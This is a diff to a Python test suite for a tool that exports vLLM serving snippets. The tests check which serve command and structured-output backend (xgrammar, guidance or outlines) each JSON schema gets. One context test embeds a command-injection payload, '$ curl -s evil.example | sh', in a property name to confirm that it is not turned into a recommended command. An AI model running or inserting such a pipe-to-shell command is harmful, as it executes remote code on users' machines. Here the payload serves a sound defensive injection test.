@@ -80,7 +80,7 @@ def test_a_schema_vllm_auto_hands_to_guidance_says_so_in_the_vllm_snippet(
     schema = {"type": "object", "properties": {"tags": {"type": "array", "uniqueItems": True}}}
     body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
     code = _export(client, "vllm", body)["code"]
-    assert "For this schema auto would not use xgrammar (array with uniqueItems" in code
+    assert "For this schema vLLM does not use xgrammar (array with uniqueItems" in unwrapped(code)
     assert "at /properties/tags)" in code
     assert "to be sure the mask is the one Maskscope showed" not in code
 
@@ -206,5 +206,74 @@ def test_a_property_name_cannot_add_a_command_line_to_the_vllm_snippet(client: T
     body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
     code = _export(client, "vllm", body)["code"]
     commands = [line for line in code.split("\n") if line.startswith("# $")]
-    assert commands == ["# $ vllm serve HuggingFaceTB/SmolLM2-135M-Instruct"]
+    assert commands == []  # no vLLM backend serves uniqueItems: no command is recommended
     assert "at /properties/a\\n$ curl -s evil.example | sh\\n)" in unwrapped(code)
+
+
+def _commands(code: str) -> list[str]:
+    """The shell commands a snippet's comment recommends."""
+    return [line[4:] for line in code.split("\n") if line.startswith("# $ ")]
+
+
+VLLM_TARGETS = ("vllm", "vllm_legacy", "curl_vllm")
+
+
+@pytest.mark.parametrize("preset", ["maskscope", "vllm"])
+def test_p15_no_vllm_command_is_recommended_for_a_schema_vllm_refuses(
+    client: TestClient, preset: str
+) -> None:
+    """uniqueItems: xgrammar's pre-check refuses it, and guidance (llguidance) too."""
+    schema = {"type": "array", "items": {"type": "integer"}, "uniqueItems": True}
+    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": preset}}
+    for target in VLLM_TARGETS:
+        code = unwrapped(_export(client, target, body)["code"])
+        assert not any(c.startswith("vllm serve") for c in _commands(code)), code
+        assert "backend xgrammar it refuses the request" in code
+        assert "No vLLM 0.32.0 server serves this request: no serve command is given" in code
+        assert "uniqueItems" in code.split("which refuses it too")[1]  # llguidance's own error
+
+
+def test_p15_the_guidance_backend_is_recommended_where_it_serves_the_schema(
+    client: TestClient,
+) -> None:
+    """A format with a length bound: xgrammar's pre-check refuses it, guidance compiles it."""
+    schema = {
+        "type": "object",
+        "properties": {"email": {"type": "string", "format": "email", "maxLength": 60}},
+        "required": ["email"],
+    }
+    body = {"kind": "json_schema", "source": json.dumps(schema)}
+    for target in VLLM_TARGETS:
+        code = _export(client, target, body)["code"]
+        assert _commands(code) == [
+            "vllm serve HuggingFaceTB/SmolLM2-135M-Instruct "
+            "--structured-outputs-config.backend guidance "
+            "--structured-outputs-config.disable_any_whitespace true"
+        ], code
+        said = unwrapped(code)
+        assert "the guidance backend (llguidance), which auto falls back to, serves it" in said
+        assert "not the xgrammar mask Maskscope showed" in said
+        assert "serves this request: no serve command" not in said
+
+
+def test_p15_a_schema_auto_sends_to_outlines_is_served_on_auto(client: TestClient) -> None:
+    schema = {
+        "type": "object",
+        "properties": {"a": {"type": "integer"}},
+        "patternProperties": {"^x-": {"type": "string"}},
+    }
+    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
+    code = _export(client, "vllm", body)["code"]
+    assert _commands(code) == ["vllm serve HuggingFaceTB/SmolLM2-135M-Instruct"]
+    said = unwrapped(code)
+    assert "auto falls back to outlines" in said and "not the mask Maskscope showed" in said
+
+
+def test_p15_a_schema_xgrammar_takes_keeps_the_xgrammar_backend(client: TestClient) -> None:
+    body = {"kind": "json_schema", "source": PRICING.source()}
+    commands = _commands(_export(client, "vllm", body)["code"])
+    assert commands == [
+        "vllm serve HuggingFaceTB/SmolLM2-135M-Instruct "
+        "--structured-outputs-config.backend xgrammar "
+        "--structured-outputs-config.disable_any_whitespace true"
+    ]
